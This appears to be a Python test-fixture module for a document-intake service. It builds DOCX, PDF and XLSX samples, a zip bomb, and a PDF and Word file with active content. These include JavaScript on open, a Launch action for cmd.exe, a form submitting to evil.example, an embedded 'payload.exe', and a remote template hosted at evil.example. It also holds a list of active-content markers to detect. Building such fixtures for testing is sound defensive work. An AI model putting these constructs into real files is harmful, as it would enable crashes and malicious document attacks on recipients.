"""Real files for the receiving tests, made during the run: DOCX with python-docx, scans
rendered from a typed PDF, a DOCX bomb, a password-protected PDF; and the tool check."""
from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from docx import Document as DocxDocument
from PIL import Image
from pypdf import PdfWriter


def need(tool: str, package: str) -> None:
    """Fail in CI, skip with the reason elsewhere, when a system tool is missing."""
    if shutil.which(tool) is None:
        if os.environ.get("CI") == "true":
            pytest.fail(f"{tool} is required in CI (Debian package {package})")
        pytest.skip(f"{tool} is not installed (Debian package {package}); make test installs it")


def docx_bytes(lines: list[str]) -> bytes:
    word = DocxDocument()
    for line in lines:
        word.add_paragraph(line)
    buffer = io.BytesIO()
    word.save(buffer)
    return buffer.getvalue()


def scan_of(pdf: Path, folder: Path) -> Path:
    """The first page of ``pdf`` as a scanner would give it: a grey image in a PDF, no text."""
    need("pdftoppm", "poppler-utils")
    subprocess.run(["pdftoppm", "-r", "200", "-gray", "-png", "-singlefile", str(pdf),
                    str(folder / "scan")], check=True)
    scan = folder / "scan.pdf"
    Image.open(folder / "scan.png").convert("L").save(scan, resolution=200)
    return scan


def docx_bomb() -> bytes:
    """A DOCX-shaped zip of 300 KB that would unzip to 300 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"\0" * (300 * 1024 * 1024))
    return buffer.getvalue()


def locked_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("mat-khau")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def xlsx_bytes(rows: list[list]) -> bytes:
    """A real Excel workbook (an annex: a price table, a list of procedures)."""
    from openpyxl import Workbook
    book = Workbook()
    for row in rows:
        book.active.append(row)
    for letter in "ABCDEF"[:max(len(row) for row in rows)]:  # whole cells, one page wide
        book.active.column_dimensions[letter].width = 30
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# What a reader runs, launches or fetches: every kind the scan found, or issue 15 names.
ACTIVE_NAMES = ("JavaScript", "JS", "Launch", "SubmitForm", "ImportData", "EmbeddedFiles",
                "FileAttachment", "XFA", "AA", "OpenAction")


def active_markers(pdf: bytes, folder: Path) -> list[str]:
    """The PDF names of active content found in ``pdf`` (uncompressed by qpdf first), and
    "app.alert" if a script's text is left; a name ends at a PDF delimiter, so the font subset
    "/AAAAAA+LiberationSerif" is no "/AA"."""
    body = uncompressed(pdf, folder)
    found = [n for n in ACTIVE_NAMES if re.search(rb"/" + n.encode() + rb"[\s/<>\[\]()]", body)]
    return found + (["app.alert"] if b"app.alert" in body else [])


def active_pdf(clean: bytes) -> bytes:
    """``clean`` with JavaScript run at opening, a page additional action, a link that launches
    a program, a form that submits, an embedded file and an XFA form, made with pypdf; one
    ordinary https link stays as the document had it."""
    from pypdf.actions import JavaScript
    from pypdf.generic import (
        ArrayObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        TextStringObject,
    )

    def name(value: str) -> NameObject:
        return NameObject(value)

    def action(kind: str, **entries) -> DictionaryObject:
        made = DictionaryObject({name("/Type"): name("/Action"), name("/S"): name(kind)})
        made.update({name(f"/{k}"): TextStringObject(v) for k, v in entries.items()})
        return made

    def link(rect: int, target: DictionaryObject) -> DictionaryObject:
        return DictionaryObject({name("/Type"): name("/Annot"), name("/Subtype"): name("/Link"),
                                 name("/Rect"): ArrayObject([FloatObject(rect), FloatObject(0),
                                                             FloatObject(rect + 50),
                                                             FloatObject(50)]),
                                 name("/A"): target})

    writer = PdfWriter(clone_from=io.BytesIO(clean))
    writer.add_open_action(JavaScript("app.alert('mở tệp');"))
    writer.add_attachment("payload.exe", b"MZ\x90\x00 not a document")
    page = writer.pages[0]
    page[name("/AA")] = DictionaryObject({name("/O"): action("/JavaScript", JS="app.alert(1)")})
    page[name("/Annots")] = ArrayObject([
        writer._add_object(link(0, action("/Launch", F="cmd.exe"))),
        writer._add_object(link(60, action("/URI", URI="https://congbao.sonla.gov.vn/"))),
        writer._add_object(link(120, action("/SubmitForm", F="https://evil.example/thu"))),
    ])
    writer._root_object[name("/OpenAction")] = writer._add_object(
        action("/JavaScript", JS="app.alert('tự chạy');"))
    writer._root_object[name("/AcroForm")] = DictionaryObject({
        name("/Fields"): ArrayObject(), name("/XFA"): TextStringObject("<xdp:xdp/>")})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def uncompressed(pdf: bytes, folder: Path) -> bytes:
    """The PDF rewritten by qpdf with every stream and object stream uncompressed, so that a
    byte search sees all of its objects (an independent look, not the code under test)."""
    need("qpdf", "qpdf")
    source, out = folder / "look-in.pdf", folder / "look-out.pdf"
    source.write_bytes(pdf)
    subprocess.run(["qpdf", "--qdf", "--object-streams=disable", str(source), str(out)],
                   check=False)
    return out.read_bytes()


def macro_docx(lines: list[str]) -> bytes:
    """A Word file as python-docx writes it, plus a VBA project and an attached template on
    another server (what a macro-enabled document carries)."""
    plain = zipfile.ZipFile(io.BytesIO(docx_bytes(lines)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in plain.infolist():
            archive.writestr(member, plain.read(member))
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)
        archive.writestr("word/_rels/settings.xml.rels", (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/attachedTemplate" Target="http://evil.example/mau.dotm" '
            'TargetMode="External"/></Relationships>'))
    return buffer.getvalue()
